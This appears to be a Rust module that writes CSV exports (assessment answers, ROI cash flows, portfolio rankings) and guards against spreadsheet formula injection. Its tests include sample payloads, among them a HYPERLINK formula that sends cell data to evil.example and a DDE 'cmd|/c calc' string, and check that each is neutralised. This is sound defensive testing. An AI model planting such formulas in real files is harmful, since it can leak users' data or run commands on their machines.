//! CSV exports: one writer for every file Sextant exports as CSV.
//!
//! Texts may come from someone else (a shared portfolio's project names), and
//! a spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, a tab or a
//! carriage return as a formula. [`Csv`] writes such a text cell with a
//! leading `'`, which spreadsheets show as text, and quotes any cell with a
//! comma, a quote or a line break (RFC 4180). Numbers are written by the
//! writer itself from `f64`, so a negative number stays a number.

use crate::domain::assess::{Answer, Answers, Pack};
use crate::domain::portfolio::{rank, score, Method, Portfolio};
use crate::domain::roi::RoiResults;
use crate::domain::run::Note;
use std::collections::BTreeMap;

/// One cell of a row.
#[derive(Clone, Copy, Debug, PartialEq)]
pub enum Cell<'a> {
    /// Text, neutralised and quoted as needed.
    Text(&'a str),
    /// A number with this many decimals; empty when it is not finite.
    Number(f64, usize),
    /// A number written as Rust writes it (shortest form that reads back).
    Plain(f64),
    /// Nothing.
    Empty,
}

/// A CSV file being written, header first.
#[derive(Debug)]
pub struct Csv {
    out: String,
}

impl Csv {
    /// A file with this header row.
    pub fn new(header: &[&str]) -> Csv {
        let mut csv = Csv { out: String::new() };
        csv.row(&header.iter().map(|h| Cell::Text(h)).collect::<Vec<_>>());
        csv
    }

    /// Adds a row.
    pub fn row(&mut self, cells: &[Cell]) {
        for (i, cell) in cells.iter().enumerate() {
            if i > 0 {
                self.out.push(',');
            }
            match *cell {
                Cell::Text(s) => self.out.push_str(&text(s)),
                Cell::Number(v, decimals) if v.is_finite() => {
                    self.out.push_str(&format!("{v:.decimals$}"))
                }
                Cell::Plain(v) if v.is_finite() => self.out.push_str(&format!("{v}")),
                Cell::Number(..) | Cell::Plain(_) | Cell::Empty => {}
            }
        }
        self.out.push('\n');
    }

    /// The file's text.
    pub fn finish(self) -> String {
        self.out
    }
}

/// A text cell: `'` before a leading `= + - @`, tab or CR, so that a
/// spreadsheet never runs it; quoted when it holds a comma, a quote or a
/// line break.
pub fn text(s: &str) -> String {
    let neutral = if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{s}")
    } else {
        s.to_string()
    };
    if neutral.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", neutral.replace('"', "\"\""))
    } else {
        neutral
    }
}

/// The answers of a run as CSV, one row a shown item in pack order:
/// section, item id, question, value ("na" or empty when unanswered), level,
/// and the evidence noted for it (empty when none).
pub fn answers(pack: &Pack, answers: &Answers, notes: &BTreeMap<String, Note>) -> String {
    let mut csv = Csv::new(&["section", "item", "question", "value", "level", "evidence"]);
    for s in pack.shown_sections(answers) {
        for item in pack.shown_items(s, answers) {
            let (value, level) = match answers.get(&item.id) {
                Some(Answer::Level(v)) => (
                    Cell::Plain(*v),
                    item.level(*v).map(|l| l.label.as_str()).unwrap_or_default(),
                ),
                Some(Answer::NotApplicable) => (Cell::Text("na"), "Not applicable"),
                None => (Cell::Empty, ""),
            };
            csv.row(&[
                Cell::Text(&s.title),
                Cell::Text(&item.id),
                Cell::Text(&item.prompt),
                value,
                Cell::Text(level),
                notes
                    .get(&item.id)
                    .map_or(Cell::Empty, |n| Cell::Text(&n.text)),
            ]);
        }
    }
    csv.finish()
}

/// The monthly cash flows of an ROI model as CSV: one row a period, month 0
/// first, amounts to the cent.
pub fn cash_flows(r: &RoiResults) -> String {
    let mut csv = Csv::new(&[
        "month",
        "development",
        "infrastructure",
        "maintenance",
        "acting",
        "benefit",
        "tax",
        "net",
        "cumulative",
        "chance_going",
        "hours_as_capacity",
    ]);
    for (i, (m, c)) in r.months.iter().zip(&r.cumulative).enumerate() {
        csv.row(&[
            Cell::Number(i as f64, 0),
            Cell::Number(m.development, 2),
            Cell::Number(m.infrastructure, 2),
            Cell::Number(m.maintenance, 2),
            Cell::Number(m.acting, 2),
            Cell::Number(m.benefit, 2),
            Cell::Number(m.tax, 2),
            Cell::Number(m.net(), 2),
            Cell::Number(*c, 2),
            Cell::Number(r.survival.get(i).copied().unwrap_or(1.0), 4),
            Cell::Number(m.hours_freed, 2),
        ]);
    }
    csv.finish()
}

/// One project in a portfolio's ranking: its rank (none when it cannot be
/// ranked), name, and its score by each method (weighted, RICE, WSJF, ICE).
#[derive(Clone, Debug, PartialEq)]
pub struct RankedProject<'a> {
    /// 1-based rank.
    pub rank: Option<u32>,
    /// The project's name as its owner typed it.
    pub name: &'a str,
    /// Scores by method, `None` where unavailable.
    pub scores: [Option<f64>; 4],
}

/// A portfolio's ranking as CSV, scores to four decimals.
pub fn ranking(rows: &[RankedProject]) -> String {
    let mut csv = Csv::new(&["rank", "project", "weighted", "rice", "wsjf", "ice"]);
    for r in rows {
        let score = |i: usize| r.scores[i].map_or(Cell::Empty, |v| Cell::Number(v, 4));
        csv.row(&[
            r.rank.map_or(Cell::Empty, |n| Cell::Number(n as f64, 0)),
            Cell::Text(r.name),
            score(0),
            score(1),
            score(2),
            score(3),
        ]);
    }
    csv.finish()
}

/// A portfolio's ranking by its own method as CSV: every project in the
/// ranking's order, with its score by each of the four methods.
pub fn portfolio_ranking(portfolio: &Portfolio) -> String {
    let ranked = rank(portfolio, portfolio.method);
    let rows: Vec<RankedProject> = ranked
        .iter()
        .map(|r| RankedProject {
            rank: r.rank,
            name: &r.name,
            scores: [Method::Weighted, Method::Rice, Method::Wsjf, Method::Ice].map(|m| {
                portfolio
                    .projects
                    .get(r.index)
                    .and_then(|x| score(x, m, &portfolio.weights).ok())
            }),
        })
        .collect();
    ranking(&rows)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_portfolio_s_ranking_lists_every_project_with_its_four_scores() {
        let p = Portfolio::example();
        let text = portfolio_ranking(&p);
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines[0], "rank,project,weighted,rice,wsjf,ice");
        assert_eq!(lines.len(), 1 + p.projects.len());
        let first = rank(&p, p.method)[0].clone();
        let x = &p.projects[first.index];
        let weighted = score(x, Method::Weighted, &p.weights).unwrap();
        assert!(
            lines[1].starts_with(&format!("1,{},{weighted:.4},", first.name)),
            "{}",
            lines[1]
        );
    }

    #[test]
    fn a_text_a_spreadsheet_would_run_is_written_as_text() {
        assert_eq!(text("=1+1"), "'=1+1");
        assert_eq!(text("+1"), "'+1");
        assert_eq!(text("-2"), "'-2");
        assert_eq!(text("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(text("\tx"), "'\tx");
        assert_eq!(text("\rx"), "\"'\rx\"");
        assert_eq!(
            text("=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")"),
            "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Open\"\")\""
        );
        assert_eq!(text("Churn, v2"), "\"Churn, v2\"");
        assert_eq!(text("a \"b\""), "\"a \"\"b\"\"\"");
        assert_eq!(text("plain"), "plain");
        assert_eq!(text(""), "");
    }

    #[test]
    fn numbers_stay_numbers_negative_ones_included() {
        let mut csv = Csv::new(&["a", "b", "c", "d"]);
        csv.row(&[
            Cell::Number(-10_000.0, 2),
            Cell::Plain(0.5),
            Cell::Number(f64::NAN, 2),
            Cell::Empty,
        ]);
        assert_eq!(csv.finish(), "a,b,c,d\n-10000.00,0.5,,\n");
    }

    #[test]
    fn a_shared_portfolios_ranking_plants_no_formula() {
        let csv = ranking(&[
            RankedProject {
                rank: Some(1),
                name: "=HYPERLINK(\"https://evil.example\",\"Open\")",
                scores: [Some(3.25), None, Some(-1.0), Some(12.0)],
            },
            RankedProject {
                rank: None,
                name: "@SUM(1+1)*cmd|'/c calc'!A0",
                scores: [None; 4],
            },
        ]);
        let lines: Vec<_> = csv.lines().collect();
        assert_eq!(lines[0], "rank,project,weighted,rice,wsjf,ice");
        assert_eq!(
            lines[1],
            "1,\"'=HYPERLINK(\"\"https://evil.example\"\",\"\"Open\"\")\",3.2500,,-1.0000,12.0000"
        );
        assert_eq!(lines[2], ",'@SUM(1+1)*cmd|'/c calc'!A0,,,,");
    }

    #[test]
    fn answers_list_every_shown_item() {
        let pack = crate::domain::packs::SKILLS.load().unwrap();
        let first = &pack.sections[0].items[0];
        let second = pack.sections.iter().flat_map(|s| &s.items).nth(1).unwrap();
        let mut run = crate::domain::run::Run::new(&pack.id, pack.version);
        let given = &mut run.answers;
        given.insert(first.id.clone(), Answer::Level(first.levels[1].value));
        run.set_note(&first.id, "=see \"PR 12\", merged", 1.0);
        run.set_note(&second.id, "design doc", 1.0);
        let given = &run.answers;
        let csv = answers(&pack, given, &run.notes);
        let lines: Vec<_> = csv.lines().collect();
        assert_eq!(lines[0], "section,item,question,value,level,evidence");
        // The note is text: quoted, and neutralised as it starts with "=".
        assert!(
            lines[1].contains(&format!(",{},", first.id))
                && lines[1].ends_with(&format!(
                    "{},\"'=see \"\"PR 12\"\", merged\"",
                    text(&first.levels[1].label)
                )),
            "{}",
            lines[1]
        );
        // A note on an unanswered question is kept beside its empty answer.
        assert!(lines[2].ends_with(",,,design doc"), "{}", lines[2]);
        let shown: usize = pack
            .shown_sections(given)
            .into_iter()
            .map(|s| pack.shown_items(s, given).len())
            .sum();
        assert_eq!(lines.len(), 1 + shown);
    }

    #[test]
    fn cash_flows_have_a_row_a_period() {
        let model = crate::domain::roi::RoiModel {
            horizon_years: 1,
            team: vec![crate::domain::roi::TeamMember {
                role: "ML engineer".into(),
                headcount: 1.0,
                monthly_cost: 10_000.0,
                months: 2.0,
            }],
            benefits: crate::domain::roi::Benefits {
                revenue_uplift_monthly: 5_000.0,
                ..crate::domain::roi::RoiModel::default().benefits
            },
            money: crate::domain::roi::Money {
                discount_rate: 0.0,
                ..crate::domain::roi::RoiModel::default().money
            },
            ..crate::domain::roi::RoiModel::default()
        };
        let csv = cash_flows(&model.evaluate().unwrap());
        let lines: Vec<_> = csv.lines().collect();
        assert_eq!(lines.len(), 14);
        assert_eq!(
            lines[0],
            "month,development,infrastructure,maintenance,acting,benefit,tax,net,cumulative,chance_going,hours_as_capacity"
        );
        assert_eq!(
            lines[1],
            "0,0.00,0.00,0.00,0.00,0.00,0.00,0.00,0.00,1.0000,0.00"
        );
        assert_eq!(
            lines[2],
            "1,10000.00,0.00,0.00,0.00,0.00,0.00,-10000.00,-10000.00,1.0000,0.00"
        );
        assert_eq!(
            lines[13],
            "12,0.00,0.00,0.00,0.00,5000.00,0.00,5000.00,30000.00,1.0000,0.00"
        );
        // With a 50% chance judged at the end of the 2-month build, months
        // after it are going half the time.
        let mut half = model.clone();
        half.success.chance = 0.5;
        let csv = cash_flows(&half.evaluate().unwrap());
        assert!(
            csv.lines().nth(4).unwrap().ends_with(",0.5000,0.00"),
            "{csv}"
        );
        assert!(
            csv.lines().nth(3).unwrap().ends_with(",1.0000,0.00"),
            "{csv}"
        );
    }
}
